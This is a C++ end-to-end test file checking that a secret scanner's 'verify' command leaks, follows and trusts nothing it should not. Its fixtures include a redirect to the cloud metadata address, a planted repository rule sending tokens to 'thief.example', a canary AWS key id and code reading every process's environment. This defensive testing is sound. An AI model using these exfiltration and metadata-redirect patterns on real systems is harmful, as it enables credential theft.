// SPDX-License-Identifier: Apache-2.0
// What `keyhound verify` does not do: leak, follow, trust, or ask twice.
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "tests/e2e/verify_fixture.h"

namespace keyhound::testing {
namespace {

namespace fs = std::filesystem;

TlsAnswer works(const TlsRequest&) { return github_user(); }

// What any process of the machine shows of itself to who may look: command line and environment.
std::string shown_by_processes() {
  std::string shown;
  std::error_code error;
  for (const auto& entry : fs::directory_iterator("/proc", error)) {
    for (const char* name : {"cmdline", "environ"}) {
      std::ifstream file(entry.path() / name, std::ios::binary);
      std::ostringstream text;
      if (file) text << file.rdbuf();
      shown += text.str();
    }
  }
  return shown;
}

// A token of which no test of this process has told the system anything.
constexpr unsigned kMarked = 4711;

}  // namespace

TEST_CASE("verify connects to no internal address unless it is told to") {
  VerifiedRepository repository(works);
  repository.leak(1);
  const RunResult result = ended_with(
      3,
      keyhound({"verify", repository.repo().path(), "--allow", "GitHub", "--no-cache", "--ca-file",
                repository.server().ca_file(), "--connect-to", repository.server().connect_to()}));
  CHECK(holds(result.out, "indeterminate 1"));
  CHECK(holds(result.out, "--allow-internal"));
  CHECK(repository.server().request_count() == 0);
}

TEST_CASE("verify sends nothing to a server that shows the certificate of another host") {
  TlsServer::Settings settings;
  settings.certificate = [](const std::string&) { return TlsCertificate::kOfOtherHost; };
  VerifiedRepository repository(works, settings);
  repository.leak(1);
  const RunResult result = ended_with(3, repository.verify_github());
  CHECK(holds(result.out, "certificate"));
  CHECK(repository.server().request_count() == 0);
}

TEST_CASE("verify follows no redirect") {
  VerifiedRepository repository([](const TlsRequest&) {
    ServedAnswer answer;
    answer.status = 302;
    answer.headers = {{"Location", "http://169.254.169.254/latest/meta-data/"}};
    return TlsAnswer(answer);
  });
  repository.leak(1);
  const RunResult result = ended_with(3, repository.verify_github());
  CHECK(holds(result.out, "indeterminate 1"));
  CHECK(repository.server().request_count() == 1);
  CHECK_FALSE(holds(result.out + result.err, "169.254"));
}

TEST_CASE("verify uses no key of a canary service, and warns of it") {
  VerifiedRepository repository(works);
  // The published key id of a trap that long went off.
  const std::string id = std::string("AKIA") + "SP2TPHJS" + "QH3FJRUX";
  repository.repo().commit_file(
      "aws.env",
      "aws_access_key_id = " + id + "\naws_secret_access_key = " + aws_secret_key(3) + "\n",
      "Add a key");
  const RunResult result = ended_with(0, repository.verify({"--allow", "*"}));
  CHECK(holds(result.err, "warning: "));
  CHECK(holds(result.err, "canarytokens.org"));
  CHECK(holds(result.out, "canary"));
  CHECK(repository.server().connection_count() == 0);
  CHECK_FALSE(holds(result.out + result.err, aws_secret_key(3)));
}

TEST_CASE("verify sends no secret where a rule of the scanned repository says") {
  VerifiedRepository repository(works);
  repository.leak(1);
  repository.repo().write("own.toml",
                          "[[rules]]\nid = \"own-token\"\nprovider = \"GitHub\"\ndescription = "
                          "\"Own token\"\nregex = '''TOKEN=(ghp_[0-9A-Za-z]{36})'''\n"
                          "[[verifiers]]\nid = \"github-user\"\nrules = [\"own-token\", "
                          "\"github-classic-pat\"]\nurl = 'https://thief.example/'\nbearer = "
                          "'{secret}'\nread_only = true\nfacts = 'documented'\n"
                          "active = [{ status = [200], json = ['id'] }]\n"
                          "revoked = [{ status = [401], json = ['id'] }]\n"
                          "answers = [{ state = 'active', status = 200, body = '{\"id\":1}' }, "
                          "{ state = 'revoked', status = 401, body = '{\"id\":1}' }]\n");
  repository.repo().write(".keyhound.toml", "[rules]\nfiles = [\"own.toml\"]\n");
  const RunResult result = repository.verify({"--allow", "GitHub"});
  INFO(result.describe());
  CHECK(result.exit_code != 2);
  for (const TlsRequest& request : repository.server().requests())
    CHECK(request.host == "api.github.com");
}

TEST_CASE("verify refuses options of its own in the configuration of what is scanned") {
  VerifiedRepository repository(works);
  repository.leak(1);
  repository.repo().write(".keyhound.toml", "[verify]\nallow = [\"GitHub\"]\n");
  ended_with(2, repository.verify());
  CHECK(repository.server().connection_count() == 0);
}

TEST_CASE("verify shows a secret to no other process while it asks") {
  std::atomic<bool> is_shown{false};
  std::atomic<bool> is_asked{false};
  VerifiedRepository repository([&](const TlsRequest& request) {
    is_asked = request.header("authorization") == "Bearer " + github_pat(kMarked);
    is_shown = holds(shown_by_processes(), github_pat(kMarked));
    return TlsAnswer(github_user());
  });
  repository.leak(kMarked);
  ended_with(1, repository.verify_github());
  CHECK(is_asked);
  CHECK_FALSE(is_shown);
}

TEST_CASE("verify goes on where it was killed") {
  std::atomic<bool> hangs{true};
  VerifiedRepository repository([&](const TlsRequest& request) {
    if (hangs && request.header("authorization") == "Bearer " + github_pat(3))
      return TlsAnswer::with(TlsAnswer::Fault::kNever);
    return TlsAnswer(github_refusal());
  });
  repository.leak(1).leak(2).leak(3).leak(4);
  RunOptions options;
  options.timeout_seconds = 4;
  const RunResult killed =
      repository.run("verify", {"--allow", kGithubHost, "--timeout", "PT60S"}, options);
  CHECK(killed.killed_by_timeout);
  hangs = false;
  const RunResult result = ended_with(0, repository.verify_github());
  CHECK(holds(result.out, "asked 2: revoked 2; known before 2: revoked 2"));
  const auto requests = repository.server().requests();
  for (const unsigned n : {1U, 2U, 4U}) {
    CHECK(std::count_if(requests.begin(), requests.end(), [n](const TlsRequest& request) {
            return request.header("authorization") == "Bearer " + github_pat(n);
          }) == 1);
  }
  CHECK_FALSE(repository.leaks_into(read_whole_file(repository.cache())));
}

TEST_CASE("verify --secrets asks about a private file of secrets, and refuses one of all") {
  VerifiedRepository repository([](const TlsRequest& request) {
    return TlsAnswer(request.header("authorization") == "Bearer " + github_pat(2)
                         ? github_user()
                         : github_refusal());
  });
  const std::string path = repository.dir() / "secrets.txt";
  repository.dir().write_file("secrets.txt", "# two\ngithub-classic-pat=" + github_pat(1) +
                                                 "\ngithub-classic-pat=" + github_pat(2) + "\n");
  const std::vector<std::string> arguments = {"--allow", "GitHub", "--secrets", path};
  fs::permissions(path, fs::perms::owner_all | fs::perms::others_read);
  CHECK(holds(ended_with(2, repository.run_alone("verify", arguments)).err, "chmod 600"));
  CHECK(repository.server().connection_count() == 0);
  fs::permissions(path, fs::perms::owner_read);
  const RunResult result = ended_with(1, repository.run_alone("verify", arguments));
  CHECK(holds(result.out, "asked 2: active 1, revoked 1"));
  CHECK(holds(result.out, "secrets.txt:3"));
  for (const unsigned n : {1U, 2U}) CHECK_FALSE(holds(result.out + result.err, github_pat(n)));
  CHECK(holds(ended_with(2, repository.run("verify", arguments)).err, "--secrets"));
}

TEST_CASE("verify refuses to verify what an earlier scan saw") {
  VerifiedRepository repository(works);
  repository.leak(1);
  const std::string state = repository.dir() / "state";
  CHECK(holds(ended_with(2, repository.verify({"--state", state})).err, "--state"));
  CHECK(holds(ended_with(2, repository.run("scan", {"--state", state})).err, "--state"));
}

TEST_CASE("scan takes the options of a verification only with --verify") {
  const RunResult result = ended_with(2, keyhound({"scan", ".", "--allow", "GitHub"}));
  CHECK(holds(result.err, "--verify"));
}

}  // namespace keyhound::testing
